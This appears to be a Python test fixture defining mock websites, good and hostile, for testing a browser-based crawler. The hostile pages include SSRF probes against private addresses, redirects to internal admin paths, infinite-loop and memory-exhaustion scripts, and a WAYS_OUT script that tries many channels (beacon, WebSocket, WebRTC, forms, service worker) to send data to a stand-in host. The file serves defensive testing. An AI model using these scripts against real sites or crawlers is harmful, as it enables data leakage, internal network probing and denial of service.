"""Sites whose pages are made by scripts, good ones and bad ones, told apart by host name.

Each is a front page that lists links, and pages under it: what ``tests.hostile`` serves.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from tests.hostile import PROSE

LIST = """
fetch('%s').then(answer => answer.json()).then(news => {
  document.getElementById('news').innerHTML =
    news.map(one => `<li><a href="${one.path}">${one.title}</a></li>`).join('')
})"""
ARTICLE = f"""
setTimeout(() => {{ document.body.innerHTML =
  `<article><h1>Cikk ${{location.pathname}}</h1><p>2021. június 10.</p><p>{PROSE}</p></article>`
}}, 300)"""
NEWS = json.dumps([{"path": "/a", "title": "Első hír"}, {"path": "/b", "title": "Második hír"}])


def page(script: str, body: str = '<ul id="news"></ul>') -> bytes:
    return (
        '<!DOCTYPE html><html lang="hu"><head><meta charset="utf-8"><title>Hírek</title></head>'
        f"<body>{body}<script>{script}</script></body></html>"
    ).encode()


def shell(inside: str = "", list_from: str = "/news.json") -> Callable[[Any], None]:
    """A site as it should be, but that its front page also runs the script ``inside``."""

    def site(handler: Any) -> None:
        if handler.path == "/":
            script = LIST % list_from.replace("PORT", str(handler.server.server_port))
            also = inside.replace("PORT", str(handler.server.server_port))
            handler.send(200, page(also + script), ETag='"always"')
        elif handler.path.endswith(".json"):
            handler.send(200, NEWS.encode(), "application/json", Access_Control_Allow_Origin="*")
        else:
            handler.send(200, page(ARTICLE))

    return site


def _robots(handler: Any) -> None:
    if handler.path == "/robots.txt":
        handler.send(200, b"User-agent: *\nDisallow: /b\nDisallow: /hidden.json", "text/plain")
    else:
        shell("fetch('/hidden.json');")(handler)


def _redirects(handler: Any) -> None:
    if handler.path == "/a":
        handler.send(302, b"", Location="http://10.0.0.1/admin")
    elif handler.path == "/part":
        handler.send(302, b"", Location="http://10.0.0.1/secret.json")
    elif handler.path == "/moved.json":
        handler.send(302, b"", Location="/news.json")
    else:
        shell("fetch('/part');", "/moved.json")(handler)


def _endless(handler: Any) -> None:
    if handler.path == "/a":
        handler.send(200, page("while (true) {}"))
    else:
        shell()(handler)


def _huge(handler: Any) -> None:
    if handler.path == "/a":
        handler.send(
            200,
            page("document.body.hidden = true; document.body.textContent = 'x'.repeat(9000000)"),
        )
    else:
        shell()(handler)


def _greedy(handler: Any) -> None:
    if handler.path == "/a":
        handler.send(200, page("const all = []; while (true) all.push({x: [all.length]})"))
    else:
        shell()(handler)


def _crowded(handler: Any) -> None:
    if handler.path.startswith("/slow"):
        UNDER_WAY.append(1)
        handler.wait(0.2)
        AT_ONCE.append(len(UNDER_WAY))
        UNDER_WAY.pop()
    shell("for (let i = 0; i < 8; i++) fetch('/slow.json?' + i);")(handler)


UNDER_WAY: list[int] = []
AT_ONCE: list[int] = []
"""How many requests for slow things were under way when one of them ended."""

# the ways out of a page that a script knows: one is open, that of scripts
WAYS_OUT = """
alert('x');
window.open('http://out.localhost:PORT/window');
for (const way of ['preconnect', 'prefetch', 'dns-prefetch', 'icon', 'manifest']) {
  const link = document.createElement('link');
  link.rel = way; link.href = 'http://out.localhost:PORT/' + way; document.head.append(link);
}
for (const name of ['img', 'iframe', 'video', 'embed', 'script']) {
  const part = document.createElement(name);
  part.src = 'http://out.localhost:PORT/' + name; document.body.append(part);
}
const form = document.createElement('form');
form.action = 'http://out.localhost:PORT/form'; form.target = '_blank'; form.method = 'post';
document.body.append(form); form.submit();
navigator.sendBeacon('http://out.localhost:PORT/beacon', 'x');
fetch('http://out.localhost:PORT/post', {method: 'POST', mode: 'no-cors', body: 'x'});
new WebSocket('ws://out.localhost:PORT/socket');
try { new WebTransport('https://127.0.0.1:PORT/') } catch {}
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
peer.createDataChannel('x');
peer.createOffer().then(offer => peer.setLocalDescription(offer));
try { navigator.serviceWorker.register('/worker.js') } catch {}
setTimeout(() => { location = 'http://out.localhost:PORT/elsewhere' }, 200);
"""

SITES: dict[str, Callable[[Any], None]] = {
    "scripted": shell(),
    "private": shell("fetch('http://10.0.0.1/secret.json'); fetch('http://192.168.1.1:8080/');"),
    "redirects": _redirects,
    "robots": _robots,
    "endless": _endless,
    "huge": _huge,
    "greedy": _greedy,
    "leaks": shell(WAYS_OUT),
    "elsewhere": shell("", "http://data.localhost:PORT/news.json"),
    "crowded": _crowded,
}
HELPING: dict[str, Callable[[Any], None]] = {"data": shell(), "out": shell()}
"""Hosts that pages ask for something."""
